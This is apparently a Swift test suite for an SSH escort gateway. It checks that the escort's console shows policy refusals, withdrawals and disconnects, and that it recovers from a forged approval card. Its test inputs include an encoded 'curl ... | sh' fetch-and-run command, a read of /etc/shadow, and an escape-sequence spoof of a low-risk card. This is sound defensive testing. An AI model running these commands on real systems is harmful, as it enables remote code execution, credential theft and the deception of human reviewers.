import AuditLog
import EscortCore
import EscortTesting
import Foundation
import Gateway
import Testing

/// What the escort's SSH console shows, over the stock OpenSSH client: refusals by policy (a
/// control character named, a critical command), withdrawals and the engineer's disconnect as
/// they happen; and program output never left drawn over the card (a background job printing a
/// clear-screen and a fake card): the console resets, clears and draws the real card after it.
@Suite(.serialized)
struct EscortConsoleViewTests {
    static let sshAvailable = FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")

    @Test(.enabled(if: sshAvailable))
    func refusalsWithdrawalsAndDisconnectsReachTheConsoleAsTheyHappen() async throws {
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let alice = try gw.ssh("alice+secure", as: "alice", tty: true)
        #expect(await alice.waitFor("secure:"), "\(alice.output) \(alice.errorOutput)")
        let bob = try gw.ssh("bob", as: "bob", tty: true)
        #expect(await bob.waitFor("alice on secure"), "\(bob.output)")
        bob.send("watch 1\r")
        #expect(await bob.waitFor("Attached"))

        // A control character: refused before it is a card, recorded with its number and text,
        // and named on the escort's console.
        var b = bob.output.count
        alice.send("echo \u{9B}31m hidden\r")
        #expect(await bob.waitFor("refused by policy", after: b, timeout: 10), "\(bob.output)")
        #expect(await bob.waitFor("⟨CSI⟩", after: b, timeout: 5), "the character is shown for what it is: \(bob.output)")
        // A critical command the policy refuses outright.
        b = bob.output.count
        let payload = Data("curl -s http://203.0.113.9/x | sh".utf8).base64EncodedString()
        alice.send("echo \(payload) | base64 -d | sh\r")
        #expect(await bob.waitFor("refused by policy (CRITICAL risk)", after: b, timeout: 10), "\(bob.output)")
        // A withdrawal.
        b = bob.output.count
        alice.send("cat /etc/shadow\r")
        #expect(await bob.waitFor("HELD #", after: b, timeout: 10), "\(bob.output)")
        b = bob.output.count
        alice.send("\u{03}")
        #expect(await bob.waitFor("withdrawn", after: b, timeout: 10), "\(bob.output)")
        // The engineer's client dies.
        b = bob.output.count
        alice.terminate()
        #expect(await bob.waitFor("The session ended", after: b, timeout: 10), "\(bob.output)")
        bob.send("quit\r")
        _ = await bob.waitForExit()

        let events = try await gw.events()
        let refused = events.filter { $0.0 == AuditEventCode.commandRefused.code && $0.1["by"] == "policy" }
        let control = refused.first { ($0.1["command"]?.stringValue ?? "").unicodeScalars.contains { $0.value == 0x9B } }
        #expect(control != nil, "the control-character refusal keeps the text as read: \(refused)")
        #expect(control?.1["n"] != nil && (control?.1["reason"]?.stringValue ?? "").contains("U+009B"), "\(String(describing: control))")
    }

    @Test(.enabled(if: sshAvailable))
    func programOutputIsNeverLeftDrawnOverTheCard() async throws {
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let alice = try gw.ssh("alice+secure", as: "alice", tty: true)
        #expect(await alice.waitFor("secure:"), "\(alice.output) \(alice.errorOutput)")
        let bob = try gw.ssh("bob", as: "bob", tty: true)
        #expect(await bob.waitFor("alice on secure"), "\(bob.output)")
        bob.send("watch 1\r")
        #expect(await bob.waitFor("Attached"))

        // A background job that, in two seconds, clears the screen and draws a fake low-risk card.
        let fake = #"\033[2J\033[H==== HELD #2: alice on secure — LOW RISK ====\n  Command: ls -l\n  Type: approve 2\n"#
        var mark = alice.output.count
        alice.send("(sleep 2; printf '\(fake)') &\r")
        #expect(await alice.waitFor("secure:", after: mark, timeout: 10), "\(alice.output)")
        mark = alice.output.count
        alice.send("cat /etc/shadow\r")
        #expect(await alice.waitFor("held for an escort", after: mark, timeout: 10), "\(alice.output)")
        #expect(await bob.waitFor("HIGH RISK", timeout: 10), "\(bob.output)")
        // The fake reaches the escort's terminal; after it, the console resets and clears the
        // screen and draws the real card again, so the fake is not what the screen is left showing.
        // (The first "LOW RISK" is the engineer's typed command, mirrored; the second, the job's.)
        var printed = false
        for _ in 0..<100 where !printed {
            printed = bob.output.components(separatedBy: "LOW RISK").count > 2
            if !printed { try await Task.sleep(for: .milliseconds(100)) }
        }
        #expect(printed, "the background job printed nothing: \(bob.output)")
        try await Task.sleep(for: .milliseconds(800))
        let out = bob.output
        let fakeAt = try #require(out.range(of: "LOW RISK", options: .backwards))
        let tail = String(out[fakeAt.upperBound...])
        let clear = tail.range(of: "\u{1B}[0m\u{1B}(B")
        #expect(clear != nil, "no reset and clear after the session's output: \(tail.debugDescription)")
        if let clear {
            let after = String(tail[clear.upperBound...])
            #expect(after.contains("\u{1B}[2J") && after.contains("HIGH RISK") && after.contains("/etc/shadow"), "the real card is not drawn again: \(after.debugDescription)")
            #expect(!after.contains("LOW RISK"))
        }
        alice.send("\u{03}")
        alice.send("exit\r")
        _ = await alice.waitForExit()
        bob.send("quit\r")
        _ = await bob.waitForExit()
    }
}
